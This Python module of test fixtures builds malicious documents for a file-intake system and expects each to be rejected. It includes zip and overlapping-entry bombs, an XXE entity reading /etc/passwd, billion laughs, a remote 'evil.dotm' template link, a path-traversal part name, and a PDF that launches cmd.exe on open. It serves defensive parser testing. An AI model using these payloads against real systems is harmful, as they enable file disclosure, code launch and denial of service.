"""Files that mean harm, each under the name of what it does. Made in memory, small on the disk, never kept."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pikepdf
from reportlab.pdfgen.canvas import Canvas

from tests.exchange.hostile import DATA, sheet_with, with_parts

CAF, LOG = "caf-plain.docx", "old-case-log.xlsx"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

Made = Callable[[], bytes]


def zip_bomb() -> bytes:
    """120 MB of blanks in one part."""
    return with_parts(LOG, {"xl/worksheets/sheet9.xml": b" " * 120_000_000})


def overlapping_bomb() -> bytes:
    """Many names in the directory for one packed kernel: 600 parts share the same bytes."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(b" " * 2_000_000) + kernel.flush()
    out = BytesIO()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 2_000_000, 5, 0) + b"k.xml"
    out.write(local + packed)
    start = out.tell()
    for number in range(600):
        name = f"word/{number}.xml".encode()
        out.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), 2_000_000,
                              len(name), 0, 0, 0, 0, 0, 0) + name)  # fmt: skip
    size = out.tell() - start
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 600, 600, size, start, 0))
    return out.getvalue()


def _document(words: str, before: str = "") -> bytes:
    body = f"<w:document {_W}><w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body></w:document>"
    return with_parts(CAF, {}, word__document=f'<?xml version="1.0"?>{before}{body}'.encode())


def outside_entity() -> bytes:
    """XXE: an entity that would be a file of this computer."""
    return _document("&file;", '<!DOCTYPE d [<!ENTITY file SYSTEM "file:///etc/passwd">]>')


def billion_laughs() -> bytes:
    """Entities of entities."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _document("&l9;", f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')


def deep_xml() -> bytes:
    """A hundred thousand tables inside each other."""
    deep = "<w:tbl><w:tr><w:tc>{}</w:tc></w:tr></w:tbl>"
    opened, closed = deep.split("{}")
    words = f"<w:document {_W}><w:body>{opened * 30_000}<w:p/>{closed * 30_000}</w:body></w:document>"
    return with_parts(CAF, {}, word__document=words.encode())


def nested_tables() -> bytes:
    """Two hundred tables inside each other: lawful, and more than any form has."""
    opened, closed = "<w:tbl><w:tr><w:tc><w:p/>", "<w:p/></w:tc></w:tr></w:tbl>"
    words = f"<w:document {_W}><w:body>{opened * 60}<w:p/>{closed * 60}</w:body></w:document>"
    return with_parts(CAF, {}, word__document=words.encode())


def external_link() -> bytes:
    """A template on a server, fetched by Word when it opens."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}attachedTemplate" Target="https://example.org/evil.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return with_parts(CAF, {"word/_rels/settings.xml.rels": rels.encode()})


def far_cell() -> bytes:
    """One word in the last cell of the largest sheet there can be."""
    return sheet_with(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>')


def three_million_rows() -> bytes:
    """Rows without end, each with a word."""
    row = b'<row><c t="inlineStr"><is><t>a</t></is></c></row>'
    return sheet_with(row * 1_500_000)


def huge_text() -> bytes:
    """One cell with nine million letters."""
    return sheet_with(b'<row r="90"><c r="A90" t="inlineStr"><is><t>' + b"huge " * 1_800_000 + b"</t></is></c></row>")


def many_names() -> bytes:
    """Thousands of empty parts."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for number in range(4_000):
            archive.writestr(f"word/media/{number}.png", b"")
    return out.getvalue()


def climbing_names() -> bytes:
    """A part whose name leads out of every folder."""
    return with_parts(CAF, {"../../../../tmp/evil.xml": b"<x/>"})


def locked_archive() -> bytes:
    """Parts marked as having a password."""
    out = BytesIO(with_parts(CAF, {}))
    with ZipFile(out, "a") as archive:
        archive.writestr(ZipInfo("secret.xml"), b"x")
        archive.infolist()[-1].flag_bits |= 1
    return out.getvalue()


def csv_of_quotes() -> bytes:
    """A quotation mark that is never closed, and a million lines after it."""
    return b'Name,DOB\n"' + b"a,b\n" * 1_000_000


def csv_of_columns() -> bytes:
    """One line with a million columns."""
    return b"Name," * 1_000_000 + b"\n" + b"x," * 1_000_000


def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    made = BytesIO()
    canvas = Canvas(made)
    canvas.drawString(72, 720, "Name of child: Ada Sample   Date of birth: 1/2/2015")
    canvas.save()
    out = BytesIO()
    with pikepdf.open(BytesIO(made.getvalue())) as document:
        change(document)
        document.save(out)
    return out.getvalue()


def pdf_that_starts_a_program() -> bytes:
    """Launches when opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root["/OpenAction"] = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))

    return _pdf(change)


def pdf_of_deep_trees() -> bytes:
    """Lists inside lists."""
    return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/Deep " + b"[" * 200_000 + b"]" * 200_000 + b">>\nendobj\n"


def pdf_of_pages_in_a_circle() -> bytes:
    """A page tree that is its own child."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.Pages["/Kids"] = pikepdf.Array([document.Root.Pages])

    out = BytesIO()
    made = BytesIO(_pdf(lambda _document: None))
    with pikepdf.open(made) as document:
        change(document)
        document.save(out)
    return out.getvalue()


def pdf_of_objects() -> bytes:
    """Sixty thousand objects."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root["/Many"] = pikepdf.Array(
            [document.make_indirect(pikepdf.Dictionary(A=number)) for number in range(60_000)]
        )

    return _pdf(change)


def pdf_of_one_huge_page_of_letters() -> bytes:
    """A page that draws fifty million letters from forty kilobytes."""

    def change(document: pikepdf.Pdf) -> None:
        line = b"BT /F1 9 Tf 10 10 Td (" + b"a" * 20_000 + b") Tj ET\n"
        document.pages[0].Contents = document.make_stream(line * 2_500)

    return _pdf(change)


def pdf_of_one_huge_picture() -> bytes:
    """A picture of forty thousand by forty thousand dots, packed to nothing."""

    def change(document: pikepdf.Pdf) -> None:
        packed = zlib.compress(b"\0" * 1_600_000, 9)
        image = document.make_stream(packed, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=40_000,
                                     Height=40_000, ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
                                     Filter=pikepdf.Name.FlateDecode)  # fmt: skip
        document.pages[0].Resources["/XObject"] = pikepdf.Dictionary(Im=image)
        document.pages[0].Contents = document.make_stream(b"500 0 0 500 0 0 cm /Im Do")

    return _pdf(change)


def cut_off(name: str, part: int) -> Made:
    """A sample that ends too early."""
    return lambda: (DATA / name).read_bytes()[: len((DATA / name).read_bytes()) * part // 100]


CORPUS: dict[str, Made] = {
    "a zip bomb": zip_bomb,
    "a bomb of overlapping parts": overlapping_bomb,
    "an entity from outside": outside_entity,
    "a billion laughs": billion_laughs,
    "deep xml": deep_xml,
    "macros": lambda: with_parts(CAF, {"word/vbaProject.bin": b"x"}),
    "macros in a workbook": lambda: with_parts(LOG, {"xl/vbaProject.bin": b"x"}),
    "an embedded object": lambda: with_parts(CAF, {"word/embeddings/oleObject1.bin": b"x"}),
    "controls that run": lambda: with_parts(CAF, {"word/activeX/activeX1.xml": b"<x/>"}),
    "a link outside": external_link,
    "a workbook linked to others": lambda: with_parts(LOG, {"xl/externalLinks/externalLink1.xml": b"<x/>"}),
    "rows without end": three_million_rows,
    "thousands of parts": many_names,
    "names that climb": climbing_names,
    "a locked archive": locked_archive,
    "an OLE file cut off": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4_000,
    "a program": lambda: b"MZ" + b"\x90\0" * 2_000,
    "a quotation without an end": csv_of_quotes,
    "a million columns": csv_of_columns,
    "a PDF that starts a program": pdf_that_starts_a_program,
    "a PDF of deep trees": pdf_of_deep_trees,
    "a PDF of pages in a circle": pdf_of_pages_in_a_circle,
    "a PDF of sixty thousand objects": pdf_of_objects,
    "a PDF of fifty million letters": pdf_of_one_huge_page_of_letters,
    "a PDF of one huge picture": pdf_of_one_huge_picture,
    "a form cut off": cut_off(CAF, 60),
    "a workbook cut off": cut_off(LOG, 80),
}
"""Every one must be refused with a reason, whether it is read as a form or as a list."""

HARMLESS: dict[str, Made] = {
    "a far cell": far_cell,
    "a huge text": huge_text,
    "a document in tables": nested_tables,
}
"""Odd, but nothing to refuse: read or refused in good time."""
